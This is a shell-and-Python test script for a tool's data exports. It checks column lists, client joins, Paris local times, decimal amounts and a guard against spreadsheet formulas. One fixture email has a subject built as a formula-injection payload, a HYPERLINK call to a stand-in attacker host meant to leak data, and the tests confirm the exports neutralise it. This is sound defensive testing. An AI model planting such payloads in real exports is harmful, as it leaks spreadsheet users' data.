#!/bin/sh
# check_export_columns.sh - the exports as a spreadsheet user and a script
# see them, on the demo business (fixtures/demo) plus one client message
# whose subject is a formula. Checks: doc/exports.md is what
# `export --columns all --format md` prints; every column `--columns TABLE`
# lists is in every format, in that order; every export joins to clients
# on client, and names the client too (client_name); the added columns
# hold what was worked out by hand (local time in Europe/Paris, hours,
# decimal amounts); the formula guard and --raw. Prints TAP.
#
# Needs REDFLAG and FIXTURES, as `make check` sets them, and python3 (its
# standard library only: csv, json, zipfile, xml).
set -u
if [ -z "${REDFLAG:-}" ] || [ -z "${FIXTURES:-}" ]; then
    echo "1..0 # SKIP REDFLAG and FIXTURES are set by make check"
    exit 0
fi
if ! command -v python3 >/dev/null 2>&1; then
    echo "1..0 # SKIP python3 is not installed (scripts/setup installs it)"
    exit 0
fi
tmp=$(mktemp -d "${TMPDIR:-/tmp}/rf-columns.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
trap 'exit 1' INT TERM
demo="$FIXTURES/demo"
db="$tmp/demo.db"

# One more message from Harbor Bakery: a subject a spreadsheet would run.
mkdir -p "$tmp/extra/cur" "$tmp/extra/new" "$tmp/extra/tmp"
cat >"$tmp/extra/cur/1795000001.M1P1Q1.extra:2,S" <<'EOF'
From: Tom Baker <tom@harbor-bakery.example>
To: lea@studio-nord.example
Subject: =HYPERLINK("http://evil.example/?leak","menu")
Date: Thu, 01 Oct 2026 09:00:00 +0200
Message-ID: <formula-subject@harbor-bakery.example>

Please see the link.
EOF

"$REDFLAG" scan --quiet --db "$db" --config "$demo/redflag.conf" --as-of 2026-11-20 \
    "$demo/mail" "$tmp/extra" --invoices "$demo/invoices" --payments "$demo/payments" 2>"$tmp/scan.err" \
    || { echo "1..1"; echo "not ok 1 - scan of the demo"; sed 's/^/# /' "$tmp/scan.err"; exit 0; }

# Every table, in every format, and its column list.
mkdir -p "$tmp/out"
tables=$("$REDFLAG" export --help | sed -n '/^Tables:/,/^$/p' | awk 'NR > 1 && NF { print $1 }')
for t in $tables; do
    "$REDFLAG" export "$t" --db "$db" --format csv --out "$tmp/out/$t.csv"
    "$REDFLAG" export "$t" --db "$db" --format csv --raw --out "$tmp/out/$t.raw.csv"
    "$REDFLAG" export "$t" --db "$db" --format tsv --out "$tmp/out/$t.tsv"
    "$REDFLAG" export --columns "$t" --db "$tmp/none.db" >"$tmp/out/$t.columns"
done
"$REDFLAG" export --columns all --format md --db "$tmp/none.db" >"$tmp/exports.md"
"$REDFLAG" export --columns nosuch --db "$db" >/dev/null 2>&1
echo $? >"$tmp/unknown.rc"

python3 - "$tmp" "$FIXTURES/../doc/exports.md" $tables <<'EOF'
import csv, sys
tmp, doc, tables = sys.argv[1], sys.argv[2], sys.argv[3:]
out = tmp + "/out/"
n = 0
def check(ok, what, detail=""):
    global n
    n += 1
    print(("ok %d - %s" if ok else "not ok %d - %s") % (n, what))
    if not ok and detail:
        for line in str(detail).splitlines()[:20]:
            print("#   " + line)

def read_csv(path, delim=","):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f, delimiter=delim))

def columns(t):
    lines = open(out + t + ".columns", encoding="utf-8").read().splitlines()
    return [l.split()[0] for l in lines[3:] if l.strip()]

check(open(tmp + "/exports.md", encoding="utf-8").read() == open(doc, encoding="utf-8").read(),
      "doc/exports.md is what 'export --columns all --format md' prints (regenerate it with that command)")
check(open(tmp + "/unknown.rc").read().strip() == "2", "--columns of an unknown table exits 2")

csvs = {t: read_csv(out + t + ".csv") for t in tables}
for t in tables:
    cols = columns(t)
    tsv = read_csv(out + t + ".tsv", "\t")
    check(len(cols) > 0 and csvs[t][0] == cols and tsv[0] == cols,
          "%s: CSV and TSV have the columns --columns lists, in order" % t,
          "columns: %s\ncsv:     %s" % (cols, csvs[t][0]))

clients = {r[1] for r in csvs["clients"][1:]}
check(len(clients) == 7 and "harbor" in clients, "clients: the 7 keys of the demo in column client", clients)
for t in tables:
    head, rows = csvs[t][0], csvs[t][1:]
    if "client" not in head:
        continue
    i = head.index("client")
    keys = {r[i] for r in rows if r[i]}
    check("client_name" in head and rows and keys <= clients,
          "%s: every client joins to clients.client, and client_name is there" % t,
          "not in clients: %s" % (keys - clients))

def row(t, col, value):
    head = csvs[t][0]
    for r in csvs[t][1:]:
        if r[head.index(col)] == value:
            return dict(zip(head, r))
    return {}

m = row("messages", "message_id", "20260304160200.bf32005477@mail.drain-media.example")
check((m.get("date_utc"), m.get("date_local"), m.get("client"), m.get("client_name")) ==
      ("2026-03-04T15:02:00Z", "2026-03-04T16:02:00+01:00", "drain", "Drain Media"),
      "messages: winter date in Paris is UTC+1, client is the key, client_name the name", m)
m = row("messages", "message_id", "009327ee-1324-b8f5-e174-7c6f8931a157@studio-nord.example")
check((m.get("date_local"), m.get("subject"), m.get("to")) ==
      ("2026-09-01T10:40:00+02:00", "Re: Point d'avancement", "camille.roux@creep-co.example"),
      "messages: summer date in Paris is UTC+2; subject and to", m)
r = row("replies", "reply_message_id", "ef6502ae-dfda-d3c3-d59f-8f4ab08cebdb@studio-nord.example")
check((r.get("latency_seconds"), r.get("latency_hours"), r.get("parent_date_local")) ==
      ("4800", "1.33", "2026-03-02T09:10:00+01:00"), "replies: 4800 s is 1.33 hours", r)
i = row("invoices", "invoice_number", "SN-2026-001")
check((i.get("amount_minor"), i.get("amount"), i.get("paid"), i.get("days_late")) ==
      ("180000", "1800.00", "1800.00", "-6"),
      "invoices: 180000 cents are 1800.00 EUR; a negative number is not guarded", i)
s = row("scores", "client", "brutal")
check((s.get("revenue_minor"), s.get("revenue"), s.get("our_latency_median_s"), s.get("our_latency_median_hours"))
      == ("540000", "5400.00", "20730", "5.76"), "scores: revenue in EUR, 20730 s are 5.76 hours", s)

f = row("messages", "message_id", "formula-subject@harbor-bakery.example")
raw = dict(zip(read_csv(out + "messages.raw.csv")[0],
               next(r for r in read_csv(out + "messages.raw.csv") if r[0] == "formula-subject@harbor-bakery.example")))
want = '=HYPERLINK("http://evil.example/?leak","menu")'
check(f.get("subject") == "'" + want, "a subject starting with = gets a leading ' in CSV", f.get("subject"))
check(raw.get("subject") == want, "--raw writes it as it is", raw.get("subject"))
tsv = read_csv(out + "messages.tsv", "\t")
check(any(r[8] == "'" + want for r in tsv[1:]), "the same in TSV")
print("1..%d" % n)
EOF
